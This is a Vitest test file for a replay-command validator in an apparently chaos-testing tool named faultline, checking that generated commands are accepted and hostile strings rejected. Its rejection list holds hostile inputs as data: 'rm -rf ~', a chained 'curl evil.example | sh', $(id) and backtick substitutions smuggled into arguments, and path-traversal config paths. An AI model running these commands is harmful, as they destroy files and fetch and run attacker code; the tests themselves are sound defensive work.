import { expect, it } from 'vitest';
import { believedWorkers, isReplayCommand, replayCommand } from './replay-command.ts';

const commandOf = (workers: string, env = {}): string =>
  replayCommand(
    'worker-down',
    {
      seed: 7,
      workers,
      fresh: true,
      environment: 'docker',
      waiting: { patienceMs: 1500, settleDeadlineMs: 9, waitOut: true },
    },
    env,
  );

it.each([
  'hardened',
  'ours with a space',
  'purchase-to-sessions#reference',
  believedWorkers('/elsewhere/their.config.ts'),
])('a command for the workers %s is one, and is told to be one', (workers) => {
  for (const env of [{}, { npm_lifecycle_event: 'start' }]) expect(isReplayCommand(commandOf(workers, env))).toBe(true);
});

it.each(['incident.ts', './incident.ts', 'scenarios/captured-api-failing-2e87e3f1.ts'])(
  'a command for the file %s is one',
  (file) => expect(isReplayCommand(replayCommand(file, { seed: 7, workers: 'hardened', fresh: false }, {}))).toBe(true),
);

it.each([
  'npx faultline run ../elsewhere/evil.ts --seed 7 --workers ours',
  'npx faultline run scenarios/../../evil.ts --seed 7 --workers ours',
  'npx faultline run /tmp/evil.ts --seed 7 --workers ours',
  'npx faultline run -r.ts --seed 7 --workers ours',
  'rm -rf ~',
  'npx faultline run healthy --seed 7 --workers ours; curl evil.example | sh',
  'npx faultline run healthy --seed 7 --workers $(id)',
  'npx faultline run healthy --seed 7 --workers `id`',
  "npx faultline run healthy --seed 7 --workers 'a'$(id)'b'",
  'npx faultline run healthy --seed 7 --workers ours\ncurl evil.example',
  'npx faultline run healthy --seed 7 --workers ours --fresh\n',
  'npx faultline run --config=/tmp/evil.ts --seed 7 --workers ours',
  'npx faultline run healthy --seed 7 --workers /tmp/evil.ts',
  "npx faultline run healthy --seed 7 --workers 'evil.config.ts'",
  'npx faultline run healthy --seed 7 --workers #',
  'npx evil run healthy --seed 7 --workers ours',
  'npx faultline run healthy --seed 7 --workers ours --env external --i-own-this-cluster',
])('%s is none', (text) => expect(isReplayCommand(text)).toBe(false));

it('a word that the shell would take for a comment stands in quotes', () => {
  expect(commandOf('#ours')).toContain("--workers '#ours'");
});
